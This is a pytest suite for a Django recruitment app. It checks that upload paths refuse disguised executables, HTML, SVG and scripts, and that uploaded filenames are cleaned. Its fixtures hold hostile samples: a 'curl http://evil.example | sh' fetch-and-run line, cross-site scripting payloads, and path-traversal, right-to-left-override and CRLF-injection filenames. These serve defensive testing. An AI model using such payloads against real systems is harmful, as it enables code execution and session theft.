"""Every upload path judges the file by its content (core.files): a program or a web page renamed to
an accepted extension, with the browser claiming the accepted type, is refused with a clear message
and nothing is stored."""

from __future__ import annotations

import datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from candidates.models import Candidate, Document, ImportJob
from clients.models import TermsOfBusiness
from compliance.models import DBSCheck, RightToWorkCheck
from core import files
from tests.candidates.files import make_pdf
from tests.factories.candidates import CandidateFactory
from tests.factories.clients import ClientFactory
from tests.factories.compliance import dbs_body, right_to_work_body

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xffThis program cannot be run in DOS mode"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
HIDDEN_SCRIPT = b"Jane Smith\nPython developer\n<script>fetch('/api/v1/me/')</script>\n"
BAD = [
    pytest.param(EXE, id="exe"),
    pytest.param(HTML, id="html"),
    pytest.param(SVG, id="svg"),
    pytest.param(SCRIPT, id="shell"),
]
TODAY = datetime.date.today()


def renamed(content: bytes, name: str, content_type: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.fixture
def candidate(recruiter):
    return CandidateFactory(owner=recruiter)


# --- core.files, the judge every path calls


@pytest.mark.parametrize("content", [*BAD, pytest.param(HIDDEN_SCRIPT, id="script-in-text")])
def test_programs_and_pages_are_not_text(content):
    with pytest.raises(Exception, match="content is not one of those"):
        files.sniff(content, allowed=(files.PDF, files.DOCX, files.TEXT))


def test_real_types_are_recognised_from_bytes_alone():
    assert files.sniff(make_pdf("cv"), allowed=(files.PDF,)) == files.PDF
    assert files.sniff(b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, allowed=(files.PNG,)) == files.PNG
    assert files.sniff("Zoë Smith — CV\n".encode(), allowed=(files.TEXT,)) == files.TEXT


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\cv.pdf", "cv.pdf"),
        ("cv\u202efdp.exe", "cvfdp.exe"),  # a right-to-left override that fakes the extension
        ("cv\r\nSet-Cookie: x=1.pdf", "cvSet-Cookie: x=1.pdf"),
        ("   ", "document"),
        ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
    ],
)
def test_display_names_are_cleaned(name, shown):
    assert files.display_name(name) == shown


def test_random_names_reveal_nothing():
    first, second = files.random_name(files.PDF), files.random_name(files.PDF)
    assert first != second and first.endswith(".pdf") and len(first) == 52


# --- each upload path


@pytest.mark.parametrize("content", BAD)
def test_cv_upload_api_refuses_a_renamed_program_or_page(api_as, recruiter, candidate, content):
    response = api_as(recruiter).post(
        f"/api/v1/candidates/{candidate.pk}/documents/",
        {"kind": "cv", "file": renamed(content, "cv.pdf", "application/pdf")},
        format="multipart",
    )
    assert response.status_code == 400 and "file" in response.json()
    assert not Document.objects.exists()


@pytest.mark.parametrize("content", BAD)
def test_cv_upload_page_refuses_a_renamed_program_or_page(client, recruiter, candidate, content):
    client.force_login(recruiter)
    response = client.post(
        reverse("candidates:document-upload", args=[candidate.pk]),
        {"kind": "cv", "file": renamed(content, "cv.txt", "text/plain")},
    )
    assert response.status_code == 400 and "PDF, a Word document" in response.content.decode()
    assert not Document.objects.exists()


def test_cv_upload_keeps_the_name_only_as_cleaned_display_text(api_as, recruiter, candidate):
    response = api_as(recruiter).post(
        f"/api/v1/candidates/{candidate.pk}/documents/",
        {"kind": "cv", "file": renamed(make_pdf("cv"), "../x/\u202eCV.pdf", "text/html")},
        format="multipart",
    )
    assert response.status_code == 201, response.json()
    document = Document.objects.get()
    assert document.filename == "CV.pdf" and document.content_type == files.PDF
    assert "CV" not in document.file.name and ".." not in document.file.name


@pytest.mark.parametrize("content", BAD)
def test_csv_import_refuses_a_renamed_program_or_page(api_as, client, recruiter, content):
    api = api_as(recruiter)
    response = api.post(
        "/api/v1/candidates/import/", {"file": renamed(content, "people.csv", "text/csv")}, format="multipart"
    )
    assert response.status_code == 400
    client.force_login(recruiter)
    page = client.post(reverse("candidates:import"), {"file": renamed(content, "people.csv", "text/csv")})
    assert "not a CSV file" in page.content.decode()
    assert not Candidate.objects.exists() and not ImportJob.objects.exists()


@pytest.mark.parametrize("content", BAD)
def test_right_to_work_evidence_refuses_a_renamed_program_or_page(
    api_as, client, recruiter, candidate, content
):
    response = api_as(recruiter).post(
        "/api/v1/compliance/right-to-work/",
        right_to_work_body(candidate, evidence=renamed(content, "passport.png", "image/png")),
        format="multipart",
    )
    assert response.status_code == 400 and "evidence" in response.json()
    client.force_login(recruiter)
    page = client.post(
        reverse("compliance:rtw-new", args=[candidate.pk]),
        {
            "holds": "digital_status",
            "route": "online_share_code",
            "share_code": "WAB123CDE",
            "checked_on": TODAY.isoformat(),
            "permission_expires_on": (TODAY + datetime.timedelta(days=400)).isoformat(),
            "outcome": "pass",
            "evidence": renamed(content, "passport.pdf", "application/pdf"),
        },
    )
    assert page.status_code == 400 and "PDF, JPEG or PNG" in page.content.decode()
    assert not RightToWorkCheck.objects.exists()


@pytest.mark.parametrize("content", BAD)
def test_dbs_certificate_image_refuses_a_renamed_program_or_page(
    api_as, compliance_officer, candidate, content, settings
):
    settings.COMPLIANCE_DBS_KEEP_IMAGES = True  # else every image is refused, whatever it holds
    response = api_as(compliance_officer).post(
        "/api/v1/compliance/dbs/",
        dbs_body(
            candidate,
            decision_on=TODAY.isoformat(),
            certificate_image=renamed(content, "dbs.jpg", "image/jpeg"),
        ),
        format="multipart",
    )
    assert response.status_code == 400
    assert "PDF, JPEG or PNG" in " ".join(response.json()["certificate_image"])
    assert not DBSCheck.objects.exists()


@pytest.mark.parametrize("content", BAD)
def test_signed_terms_refuse_a_renamed_program_or_page(api_as, client, recruiter, content):
    acme = ClientFactory(owner=recruiter)
    response = api_as(recruiter).post(
        f"/api/v1/clients/{acme.pk}/terms/",
        {"fee_percent": "20", "document": renamed(content, "terms.docx", files.DOCX)},
        format="multipart",
    )
    assert response.status_code == 400 and "document" in response.json()
    client.force_login(recruiter)
    page = client.post(
        reverse("clients:terms_create", args=[acme.pk]),
        {"fee_percent": "20", "document": renamed(content, "terms.pdf", "application/pdf")},
    )
    assert page.status_code == 400 and "PDF or Word" in page.content.decode()
    assert not TermsOfBusiness.objects.exists()


def test_uploads_over_the_size_limit_are_refused(api_as, recruiter, candidate):
    big = make_pdf("cv") + b"%" * files.MAX_UPLOAD_BYTES
    response = api_as(recruiter).post(
        f"/api/v1/candidates/{candidate.pk}/documents/",
        {"kind": "cv", "file": renamed(big, "cv.pdf", "application/pdf")},
        format="multipart",
    )
    assert response.status_code in (400, 413)
    assert not Document.objects.exists()
